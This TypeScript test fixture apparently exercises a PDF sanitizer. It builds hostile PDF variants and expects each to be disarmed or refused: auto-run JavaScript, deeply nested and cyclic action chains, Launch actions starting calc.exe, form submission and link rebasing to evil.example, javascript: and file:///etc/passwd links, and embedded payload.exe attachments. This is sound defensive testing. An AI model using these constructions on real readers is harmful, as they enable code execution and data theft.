import { pagePdf, type RawObjects, shown, stream, text } from "./raw-pdf.ts";
import { disarmed, refused, type Variant } from "./variant.ts";

const script = (words: string) => `<< /S /JavaScript /JS (${words}) >>`;
const linked = (action: string, more: RawObjects = {}) =>
  pagePdf({
    page: "/Annots [6 0 R]",
    more: { 6: `<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /Border [0 0 0] /A ${action} >>`, ...more },
  });
/** Objects from a number on, each with the next one in it. */
const chained = (from: number, length: number, link: (next: string) => string, last: string): RawObjects =>
  Object.fromEntries(
    Array.from({ length }, (_, at) => [from + at, at === length - 1 ? last : link(`${from + at + 1} 0 R`)]),
  );

/** What a reader would run, open or send. */
export const acting: readonly Variant[] = [
  {
    name: "a script on opening",
    make: () => pagePdf({ catalog: `/OpenAction ${script("app.alert")}` }),
    ends: disarmed(["script"], "app.alert"),
  },
  {
    name: "a script behind a jump, in a list",
    make: () =>
      pagePdf({
        catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage /Next [${script("app.alert")}] >>] >>`,
      }),
    ends: disarmed(["action", "script"], "app.alert", "/Next"),
  },
  {
    name: "a script behind 500 other actions",
    make: () =>
      pagePdf({
        catalog: "/OpenAction 6 0 R",
        more: chained(6, 500, (next) => `<< /S /GoTo /D [3 0 R /Fit] /Next ${next} >>`, script("app.alert")),
      }),
    ends: disarmed(["action", "script"], "app.alert"),
  },
  {
    name: "a chain of actions that bites its tail",
    make: () =>
      pagePdf({
        catalog: "/OpenAction 6 0 R",
        more: { 6: "<< /S /Named /N /Print /Next [6 0 R 7 0 R] >>", 7: "<< /S /Launch /F (calc.exe) /Next 6 0 R >>" },
      }),
    ends: disarmed(["action"], "calc.exe"),
  },
  {
    name: "a script 150 dictionaries deep",
    make: () => pagePdf({ page: `/Deep ${"<< /D ".repeat(150)}<< /A ${script("app.alert")} >>${" >>".repeat(150)}` }),
    ends: disarmed(["other"], "app.alert"),
  },
  {
    name: "a script 5,000 dictionaries deep",
    make: () =>
      pagePdf({ page: `/Deep ${"<< /D ".repeat(5_000)}<< /A ${script("app.alert")} >>${" >>".repeat(5_000)}` }),
    ends: disarmed(["other"], "app.alert"),
  },
  {
    name: "a script 5,000 structure elements deep",
    make: () =>
      pagePdf({
        catalog: "/StructTreeRoot 6 0 R",
        more: {
          6: "<< /Type /StructTreeRoot /K 7 0 R >>",
          ...chained(7, 5_000, (next) => `<< /S /Div /K ${next} >>`, `<< /S /P /AA << /O ${script("app.alert")} >> >>`),
        },
      }),
    ends: disarmed(["script"], "app.alert"),
  },
  {
    name: "scripts of the document by name",
    make: () => pagePdf({ catalog: `/Names << /JavaScript << /Names [(a) ${script("app.alert")}] >> >>` }),
    ends: disarmed(["script"], "app.alert"),
  },
  {
    name: "scripts of a page and of the document",
    make: () =>
      pagePdf({ catalog: `/AA << /WC ${script("app.alert")} >>`, page: `/AA << /O ${script("app.beep")} >>` }),
    ends: disarmed(["script"], "app.alert", "app.beep"),
  },
  {
    name: "scripts of fields, and the order to run them",
    make: () =>
      pagePdf({
        catalog: "/AcroForm << /Fields [6 0 R] /CO [6 0 R] >>",
        page: "/Annots [6 0 R]",
        more: {
          6: `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [72 500 272 530] /F 4 /AA << /K ${script("app.alert")} /C ${script("app.beep")} >> >>`,
        },
      }),
    ends: disarmed(["script"], "app.alert", "app.beep"),
  },
  {
    name: "a button that sends the form",
    make: () =>
      pagePdf({
        catalog: "/AcroForm << /Fields [6 0 R] >>",
        page: "/Annots [6 0 R]",
        more: {
          6: "<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (a) /Rect [72 500 272 530] /F 4 /A << /S /SubmitForm /F (https://evil.example) >> >>",
        },
      }),
    ends: disarmed(["action"], "evil.example"),
  },
  {
    name: "a link that starts a program",
    make: () => linked("<< /S /Launch /F (calc.exe) >>"),
    ends: disarmed(["action"], "calc.exe"),
  },
  {
    name: "a link to another file",
    make: () => linked("<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>"),
    ends: disarmed(["action"], "other.pdf"),
  },
  {
    name: "a link into a file within",
    make: () => linked("<< /S /GoToE /T << /R /C /N (inner) >> >>"),
    ends: disarmed(["action"], "inner"),
  },
  {
    name: "a link that is a script",
    make: () => linked("<< /S /URI /URI (javascript:alert) >>"),
    ends: disarmed(["action"], "javascript:"),
  },
  {
    name: "a link to a file of the reader",
    make: () => linked("<< /S /URI /URI (file:///etc/passwd) >>"),
    ends: disarmed(["action"], "etc/passwd"),
  },
  {
    name: "a base that turns every link",
    make: () => pagePdf({ catalog: "/URI << /Base (https://evil.example) >>" }),
    ends: disarmed(["other"], "evil.example"),
  },
  {
    name: "a bookmark that starts a program",
    make: () =>
      pagePdf({
        catalog: "/Outlines 6 0 R",
        more: {
          6: "<< /First 7 0 R /Last 7 0 R /Count 1 >>",
          7: "<< /Title (a) /Parent 6 0 R /A << /S /Launch /F (calc.exe) >> >>",
        },
      }),
    ends: disarmed(["action"], "calc.exe"),
  },
  {
    name: "a file within the file",
    make: () =>
      pagePdf({
        catalog: "/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >> /AF [6 0 R]",
        more: {
          6: "<< /Type /Filespec /F (payload.exe) /EF << /F 7 0 R >> >>",
          7: stream("MZ-payload", "/Type /EmbeddedFile"),
        },
      }),
    ends: disarmed(["attachment"], "payload"),
  },
  {
    name: "a collection of files",
    make: () => pagePdf({ catalog: "/Collection << /View /D /D (inner.pdf) >>" }),
    ends: disarmed(["attachment"], "inner.pdf"),
  },
  {
    name: "a file behind a paper clip",
    make: () =>
      pagePdf({
        page: "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (payload.exe) >> >>]",
      }),
    ends: disarmed(["attachment"], "payload"),
  },
  {
    name: "video and 3D",
    make: () =>
      pagePdf({
        page: "/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /A (movie.swf) >> >> << /Subtype /3D /Rect [0 0 9 9] /3DD 6 0 R >> << /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /JS (app.alert) >> >>]",
        more: { 6: stream("model-payload") },
      }),
    ends: disarmed(["rich_media"], "movie.swf", "payload", "app.alert"),
  },
  {
    name: "an action within a resource",
    make: () =>
      pagePdf({
        resources: "/Properties << /P << /A << /S /JavaScript /JS (app.alert) >> >> >>",
        content: `/Span /P BDC ${text(shown)} EMC`,
      }),
    ends: disarmed(["other"], "app.alert"),
  },
  {
    name: "a password that is empty",
    make: () => pagePdf({ trailer: "/Encrypt << /Filter /Standard /V 1 /R 2 >> /ID [<00> <00>]" }),
    ends: refused("pdf_encrypted"),
  },
];
